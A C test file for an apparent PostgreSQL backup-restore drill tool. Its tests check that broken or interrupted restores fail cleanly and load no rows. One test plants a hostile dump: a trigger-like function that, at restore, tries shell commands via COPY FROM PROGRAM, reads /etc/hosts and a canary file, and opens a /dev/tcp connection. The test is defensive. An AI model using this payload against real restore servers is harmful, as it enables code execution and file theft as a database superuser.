/* There and back, with something in the way. */
#include "drilled.h"

/* R10: whatever pg_restore stumbles over is a failure, in its own words. */
static void
a_stream_that_does_not_restore_is_a_failure_with_its_reason(void **state)
{
	struct taken t;
	struct drilled d;
	struct err e = ERR_INIT;
	struct restore_options o;
	struct restore *r;
	struct sink *s;
	struct buf cut;

	(void)state;
	take_dump("app", 0, &t);
	begin_drill(&d, &t);
	o = restore_plan(&d);
	r = restore_new(&o, &e);
	assert_non_null(r);
	/* Data before there are tables. */
	assert_int_equal(restore_one(r, t.streams[1].kind, "rest", &t.streams[1].bytes, &d.before, &e), -1);
	assert_non_null(strstr(e.msg, "pg_restore of rest"));
	assert_non_null(strstr(e.msg, "does not exist"));
	/* Cut in the middle. */
	err_clear(&e);
	cut = t.streams[0].bytes;
	cut.bytes /= 2;
	assert_int_equal(restore_one(r, DUMP_PRE_DATA, "pre-data", &cut, &d.before, &e), -1);
	/* Abandoned: the sink is freed without finish, and nothing waits for it. */
	err_clear(&e);
	s = restore_stream(r, DUMP_REST, "rest", NULL, &e);
	assert_non_null(s);
	assert_good(sink_write(s, t.streams[1].bytes.data, 1000, &e), &e);
	sink_free(s);
	/* The same name again: R37. */
	assert_int_equal(restore_create(scratch_target(d.scratch), d.name, t.database, &e), -1);
	assert_int_equal(e.kind, ERR_EXISTS);
	restore_free(r);
	end_drill(&d);
	taken_free(&t);
}

/* R10, R4: all rows of a table or none, whatever went wrong. */
static void
a_table_that_fails_in_the_middle_has_no_rows(void **state)
{
	static const char count[] = "SELECT count(*)::text FROM public.parent";
	struct taken t;
	struct drilled d;
	struct err e = ERR_INIT;
	struct archive_digest digest = ARCHIVE_DIGEST_INIT;
	struct restore_options o;
	struct restore *r;
	struct sink *s;
	struct buf cut;
	char *value, *row;
	size_t i;

	(void)state;
	cluster_sql(&source, "postgres", "CREATE DATABASE odd TEMPLATE template0");
	cluster_sql(&source, "odd", odd_tables);
	take_dump("odd", 65536, &t);
	begin_drill(&d, &t);
	o = restore_plan(&d);
	r = restore_new(&o, &e);
	assert_non_null(r);
	assert_good(restore_one(r, t.streams[0].kind, "pre-data", &t.streams[0].bytes, &d.before, &e), &e);
	i = stream_of(&t, "parent");
	cut = t.streams[i].bytes;

	/* The archive is not whole: by one byte, and by the end mark of the rows. */
	for (size_t less = 1; less < 20000; less += 9000) {
		cut.bytes = t.streams[i].bytes.bytes - less;
		err_clear(&e);
		assert_int_equal(restore_one(r, DUMP_TABLE, "table public.parent", &cut, &d.before, &e), -1);
		assert_int_equal(e.kind, ERR_CORRUPT);
		value = value_of(&d, count);
		assert_string_equal(value, "0");
		free(value);
	}
	/* All bytes came, and then whoever brought them changed his mind: a digest that did not fit, say. */
	err_clear(&e);
	s = restore_stream(r, DUMP_TABLE, "table public.parent", NULL, &e);
	assert_non_null(s);
	assert_good(sink_write(s, t.streams[i].bytes.data, t.streams[i].bytes.bytes, &e), &e);
	sink_free(s);
	value = value_of(&d, count);
	assert_string_equal(value, "0");
	free(value);
	/* The server refuses a row, here by a constraint, and says so. */
	row = memmem(t.streams[i].bytes.data, t.streams[i].bytes.bytes, "1999\tppp", 8);
	assert_non_null(row);
	memcpy(row, "-999", 4);
	assert_int_equal(restore_one(r, DUMP_TABLE, "table public.parent", &t.streams[i].bytes, &d.before, &e), -1);
	assert_non_null(strstr(e.msg, "COPY of table public.parent"));
	assert_non_null(strstr(e.msg, "violates check constraint"));
	assert_int_equal(e.kind, ERR_FAILED);
	value = value_of(&d, count);
	assert_string_equal(value, "0");
	free(value);
	/* A stop in the middle. */
	memcpy(row, "1999", 4);
	err_clear(&e);
	s = restore_stream(r, DUMP_TABLE, "table public.parent", &digest, &e);
	assert_non_null(s);
	assert_good(sink_write(s, t.streams[i].bytes.data, 200000, &e), &e);
	stop_install();
	assert_int_equal(raise(SIGTERM), 0);
	assert_int_equal(sink_write(s, t.streams[i].bytes.data + 200000, t.streams[i].bytes.bytes - 200000, &e), -1);
	assert_int_equal(e.kind, ERR_STOPPED);
	stop_clear();
	sink_free(s);
	archive_digest_free(&digest);
	value = value_of(&d, count);
	assert_string_equal(value, "0");
	free(value);
	/* A stream of another kind is none of a table: nothing of it gets in. */
	err_clear(&e);
	for (size_t k = 0; k < t.n; k++) {
		if (t.streams[k].kind == DUMP_TABLE)
			continue;
		assert_int_equal(restore_one(r, DUMP_TABLE, "table public.parent", &t.streams[k].bytes, &d.before, &e), -1);
		assert_int_equal(e.kind, ERR_CORRUPT);
	}
	/* And none of it was in the way of the next try. */
	err_clear(&e);
	assert_good(restore_one(r, DUMP_TABLE, "table public.parent", &t.streams[i].bytes, &d.before, &e), &e);
	value = value_of(&d, "SELECT (SELECT count(*) FROM ONLY public.parent) || ' ' || (SELECT count(*) FROM public.heir)");
	assert_string_equal(value, "2000 0");
	free(value);
	/* No table to put them in. */
	on_scratch(&d, "DROP TABLE public.secret");
	i = stream_of(&t, "secret");
	assert_int_equal(restore_one(r, DUMP_TABLE, "table public.secret", &t.streams[i].bytes, &d.before, &e), -1);
	assert_non_null(strstr(e.msg, "does not exist"));
	restore_free(r);
	end_drill(&d);
	taken_free(&t);
	cluster_sql(&source, "postgres", "DROP DATABASE odd");
}

/* R48: the source's users wrote code that waits for a restore. */
static void
a_hostile_dump_gets_nowhere_and_is_reported_cleanly(void **state)
{
	struct sockaddr_in in = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t bytes = sizeof(in);
	int tcp = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct taken t;
	struct drilled d;
	struct err e = ERR_INIT;
	char *sql, *value, secret[] = "/tmp/hf-secret-XXXXXX";
	int fd = mkstemp(secret);

	(void)state;
	assert_int_equal(bind(tcp, (struct sockaddr *)&in, sizeof(in)), 0);
	assert_int_equal(listen(tcp, 5), 0);
	getsockname(tcp, (struct sockaddr *)&in, &bytes);
	assert_int_equal(write(fd, "canary\n", 7), 7);
	fchmod(fd, 0666);
	close(fd);
	cluster_sql(&source, "postgres", "CREATE DATABASE hostile TEMPLATE template0");
	/* Runs when the materialized view is filled: at restore, as the superuser of wherever that is.  At the source it does nothing. */
	sql = mem_printf("CREATE TABLE public.loot (way text, line text);"
	    "CREATE FUNCTION public.attack() RETURNS int LANGUAGE plpgsql AS $f$ BEGIN"
	    " IF current_setting('data_directory') LIKE '/tmp/hf-cluster%%' THEN RETURN 0; END IF;"
	    " BEGIN EXECUTE $$COPY public.loot (line) FROM PROGRAM 'echo ran'$$; EXCEPTION WHEN OTHERS THEN NULL; END;"
	    " BEGIN EXECUTE $$COPY public.loot (line) FROM '%s'$$; EXCEPTION WHEN OTHERS THEN NULL; END;"
	    " BEGIN EXECUTE $$COPY public.loot (line) FROM '/etc/hosts'$$; EXCEPTION WHEN OTHERS THEN NULL; END;"
	    " BEGIN EXECUTE $$COPY public.loot (line) FROM PROGRAM 'echo owned > %s'$$; EXCEPTION WHEN OTHERS THEN NULL; END;"
	    " BEGIN EXECUTE $$COPY public.loot (line) FROM PROGRAM 'bash -c \"echo > /dev/tcp/127.0.0.1/%u\" && echo connected'$$;"
	    " EXCEPTION WHEN OTHERS THEN NULL; END; RETURN 1; END $f$;"
	    "CREATE MATERIALIZED VIEW public.trap AS SELECT public.attack() AS x;", secret, secret, ntohs(in.sin_port));
	cluster_sql(&source, "hostile", sql);
	free(sql);
	take_dump("hostile", 0, &t);
	begin_drill(&d, &t);
	assert_good(restore_all(&d, &t, &e), &e);
	value = value_of(&d, "SELECT string_agg(line, ' ') FROM public.loot");
	assert_string_equal(value, "ran");
	free(value);
	{
		struct buf content = BUF_INIT;

		assert_good(file_read(&content, secret, 100, &e), &e);
		assert_string_equal((char *)content.data, "canary\n");
		buf_free(&content);
	}
	/* And the drill says what is true: this database does not come back as it was. */
	assert_false(dump_again(&d));
	assert_string_equal(difference(&d, "public.loot"), "rows");
	end_drill(&d);
	taken_free(&t);
	unlink(secret);
	close(tcp);
	cluster_sql(&source, "postgres", "DROP DATABASE hostile");
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(a_stream_that_does_not_restore_is_a_failure_with_its_reason),
		cmocka_unit_test(a_table_that_fails_in_the_middle_has_no_rows),
		cmocka_unit_test(a_hostile_dump_gets_nowhere_and_is_reported_cleanly),
	};

	return cmocka_run_group_tests(tests, set_up, tear_down);
}
